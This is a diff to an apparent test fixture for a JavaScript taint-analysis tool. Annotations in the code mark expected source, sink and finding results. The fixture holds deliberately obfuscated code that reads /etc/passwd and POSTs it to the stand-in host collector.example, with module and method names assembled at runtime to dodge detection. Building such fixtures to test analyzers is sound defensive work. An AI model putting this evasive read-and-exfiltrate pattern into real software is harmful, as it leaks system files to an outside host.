@@ -3,12 +3,12 @@
 const pick = (...parts) => parts.join('');
 const files = require(['f', 's'].join(''));
 const wire = require('ht' + 'tps');
-const verb = 'etisw'.split('').reverse().join('').replace('wsite', 'write');
+const verb = 'etirw'.split('').reverse().join('');
 
 function leak() {
   const body = files['readFile' + 'Sync']('/etc/passwd'); //~ source(FILE) f1
   const request = wire[String.fromCharCode(114, 101, 113, 117, 101, 115, 116)]({ host: 'collector.example', method: 'POST' });
-  request[verb](body); //~ sink(egress.http) f1, MISSING: finding(file-upload, traced) f1
+  request[verb](body); //~ sink(egress.http) f1, finding(file-upload, traced) f1
 }
 
 function quiet() {
